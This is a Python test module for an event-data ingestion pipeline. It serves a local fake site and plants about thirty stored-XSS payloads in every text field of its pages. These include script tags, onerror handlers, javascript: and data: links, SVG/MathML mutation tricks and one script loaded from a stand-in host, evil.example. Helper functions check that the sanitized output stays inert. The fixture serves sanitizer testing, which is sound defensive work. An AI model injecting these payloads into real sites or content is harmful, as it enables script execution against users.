"""A corpus of stored-XSS vectors, and a site serving them in every text field of a page.

Each vector lands in an event's name, subtitle, description, city label, tags, race
titles and leg names, and a `javascript:`-like link in its website and registration
links. Whatever the vector, what reaches the marts must be inert: plain-text columns
without markup (:data:`ingestion.html_text.MARKUP`), HTML columns within the allowlist,
URLs http(s) only.
"""

from __future__ import annotations

import re
from typing import Any

from ingestion.finishers.snapshot.build_snapshot import ROBOTS_TXT, SITE_DIR, render_sitemap
from ingestion.finishers.snapshot.server import DirectorySource, OverrideSource, PageResponse
from ingestion.html_text import MARKUP

from .helpers import html, page_of, variant

#: (label, vector). At least one of each family the issue lists.
XSS_VECTORS: list[tuple[str, str]] = [
    ("script", "<script>alert(1)</script>"),
    ("entity-encoded script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("double-encoded script", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;"),
    ("numeric entities", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("hex entities", "&#x3c;img src=x onerror=alert(1)&#x3e;"),
    ("mixed case", "<ScRiPt>alert(6)</sCrIpT>"),
    ("upper case", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>"),
    ("unclosed img", "<img src=x onerror=alert(3)"),
    ("img onerror", "<img src=x onerror=alert(2)>"),
    ("escaped img in p", "<p>&lt;img src=x onerror=alert(2)&gt; desc</p>"),
    ("attribute handler", '<div onmouseover="alert(1)">survol</div>'),
    ("body onload", "<body onload=alert(1)>"),
    ("javascript href", '<a href="javascript:alert(1)">clic</a>'),
    ("javascript href entity", '<a href="jav&#x09;ascript:alert(1)">clic</a>'),
    ("javascript href mixed case", "<a href=JaVaScRiPt:alert(1)>clic</a>"),
    ("data href", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("nested split tag", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("nested in allowed", "<strong><em><img src=x onerror=alert(1)></em></strong>"),
    ("comment", "<!--<script>alert(1)</script>-->"),
    ("conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("svg onload", "<svg/onload=alert(1)>"),
    ("svg script", "<svg><script>alert(1)</script></svg>"),
    ("math mtext", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("style expression", '<p style="background:url(javascript:alert(1))">st</p>'),
    ("processing instruction", "<?xml-stylesheet href='javascript:alert(1)'?>"),
    ("broken quotes", '<img """><script>alert(1)</script>">'),
    ("form action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
]

#: Links that must never reach a URL column.
BAD_LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]

_ALLOWED_HTML = re.compile(
    r'</?(?:p|br|ul|ol|li|strong|em)>|<a(?: href="https?://[^"<>]*")? rel="nofollow noopener">|</a>'
)


def slug_of(i: int) -> str:
    return f"xss-{i:02d}"


def corpus_props(i: int, vector: str) -> dict[str, Any]:
    """A good event page with ``vector`` in every text field."""
    bad_link = BAD_LINKS[i % len(BAD_LINKS)]

    def mutate(props: dict[str, Any]) -> None:
        ev = props["event"]
        ev["name"] = f"Trail {i} {vector}"
        ev["subtitle"] = vector
        ev["longDescription"] = f"<p>Intro {i}</p>{vector}<ul><li>Marathon</li></ul>"
        ev["breadcrumb"] = [*ev["breadcrumb"], {"type": "city", "label": f"Ville {vector}"}]
        ev["tags"] = [*(ev.get("tags") or []), vector]
        ev["links"] = {"website": bad_link, "registration": f" {bad_link}", "facebook": None}
        race = props["races"][0]
        race["name"] = f"Course {vector}"
        race["formattedTitle"] = f"Trail {vector} 10 km"
        race["registrationUrl"] = bad_link
        race["activities"] = [{"activity": vector, "distance": 10000, "distanceUnit": "meters"}]

    return variant(slug_of(i), mutate)


def xss_site() -> OverrideSource:
    """A site of one page per vector (and nothing else)."""
    slugs = [slug_of(i) for i in range(len(XSS_VECTORS))]
    overrides: dict[str, PageResponse | list[PageResponse]] = {
        "/robots.txt": PageResponse(200, ROBOTS_TXT.encode()),
        "/sitemap/events.xml": PageResponse(200, render_sitemap(slugs).encode()),
    }
    for i, (_, vector) in enumerate(XSS_VECTORS):
        overrides[f"/course/{slug_of(i)}"] = html(page_of(corpus_props(i, vector)))
    return OverrideSource(DirectorySource(SITE_DIR), overrides)


def inert_text(value: Any) -> bool:
    """A plain-text value a renderer cannot turn into markup."""
    return not isinstance(value, str) or MARKUP.search(value) is None


def inert_html(value: Any) -> bool:
    """Only the sanitizer's allowlist is left (the dbt `no_markup` test, html_columns)."""
    return not isinstance(value, str) or MARKUP.search(_ALLOWED_HTML.sub("", value)) is None


def safe_link(value: Any) -> bool:
    return value is None or bool(re.fullmatch(r"https?://[^<>\"\s]+", value))
